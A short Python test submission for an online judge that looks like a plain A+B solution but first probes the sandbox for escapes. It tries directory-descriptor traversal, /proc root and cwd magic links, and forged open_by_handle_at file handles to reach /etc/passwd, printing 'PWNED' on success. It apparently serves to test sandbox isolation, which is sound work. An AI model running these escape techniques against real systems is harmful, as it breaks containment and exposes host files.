# id=H65 | tries=leaves its folder without a path: file handles, the parent of the root, descriptors of folders, magic links | verdicts=AC | invariants=no_pwn,judge_alive
import ctypes, os, struct

a, b = map(int, input().split())
libc = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
to_handle, by_handle = (303, 304) if x86 else (264, 265)
bad = []


def opened(path, dir_fd=None, flags=os.O_RDONLY):
    try:
        fd = os.open(path, flags, dir_fd=dir_fd)
    except (OSError, ValueError):
        return None
    return fd


for start in (
    ".",
    "/",
    os.path.dirname(os.__file__),
    "/proc/self/root",
    "/proc/self/cwd",
    "/proc/1/root",
    "/proc/1/cwd",
    f"/proc/{os.getppid()}/cwd",
):
    fd = opened(start, flags=os.O_RDONLY | os.O_DIRECTORY) or opened(start, flags=os.O_PATH)
    if fd is None:
        continue
    for way in ("etc/passwd", "../etc/passwd", "../" * 20 + "etc/passwd", "../" * 20 + "root/.profile"):
        if opened(way, fd) is not None:
            bad.append((start, way))
    try:
        os.fchdir(fd)
        os.chdir("../" * 20)
        if opened("etc/passwd") is not None:
            bad.append(start)
    except OSError:
        pass
    handle = ctypes.create_string_buffer(
        struct.pack("IiI", 8, 1, 2) + bytes(120)
    )  # inode 2: the root of an ext4
    if libc.syscall(by_handle, fd, handle, os.O_RDONLY) >= 0:
        bad.append("handle")
    room, mount = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120)), ctypes.c_int()
    if libc.syscall(to_handle, fd, b"", room, ctypes.byref(mount), 0x1000) == 0:
        bad.append("name")
print("PWNED", *bad) if bad else print(a + b)
